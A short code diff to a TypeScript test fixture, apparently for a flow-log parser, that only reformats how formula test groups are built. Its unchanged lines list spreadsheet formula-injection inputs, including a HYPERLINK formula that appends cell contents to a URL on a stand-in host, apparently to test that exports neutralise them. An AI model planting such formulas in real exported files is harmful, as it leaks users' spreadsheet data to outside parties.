@@ -15,7 +15,10 @@ const corpus = resolve(import.meta.dirname, '../../parse/corpus')
 export const FORMULAS = ['=HYPERLINK("https://x/?"&A1,"y")', '+1', '-1', '@SUM(A1)', '＝1', '\t=1']
 
 function formulas(): string {
-  const groups = FORMULAS.map((rule, i) => ({ rule, flowTuples: [`178652880000${i},10.0.0.1,10.0.0.2,1,2,${[1, 58, 47][i % 3]},I,D,NX,0,0,0,0`] }))
+  const groups = FORMULAS.map((rule, i) => ({
+    rule,
+    flowTuples: [`178652880000${i},10.0.0.1,10.0.0.2,1,2,${[1, 58, 47][i % 3]},I,D,NX,0,0,0,0`],
+  }))
   return JSON.stringify({
     records: [
       {
